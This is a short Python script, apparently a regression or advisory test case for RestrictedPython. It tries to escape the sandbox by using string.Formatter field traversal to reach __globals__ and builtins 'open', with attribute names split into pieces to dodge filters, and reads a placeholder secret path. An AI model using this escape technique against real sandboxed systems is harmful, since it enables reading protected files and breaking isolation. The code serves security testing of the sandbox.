# family: RestrictedPython advisories (string.Formatter traversal, fixed in 8.4)
# goal: let string.Formatter, a subclass of it, or its real base class read __globals__ unguarded
import json
import string

field = "0.__glo" + "bals__"
formatter = string.Formatter()
for cls in type(formatter).__mro__:
    try:
        namespace, _ = cls.get_field(formatter, field, [json.dumps], {})
        print(namespace["__buil" + "tins__"]["open"]("__SECRET_PATH__").read())
    except AttributeError as err:
        print(cls.__name__, "refused:", err)
try:
    namespace, _ = super(type(formatter), formatter).get_field(field, [json.dumps], {})
    print(namespace["__buil" + "tins__"]["open"]("__SECRET_PATH__").read())
except AttributeError as err:
    print("super() refused:", err)


class Leak(string.Formatter):
    pass


print(Leak().vformat("{" + field + "}", [json.dumps], {}))
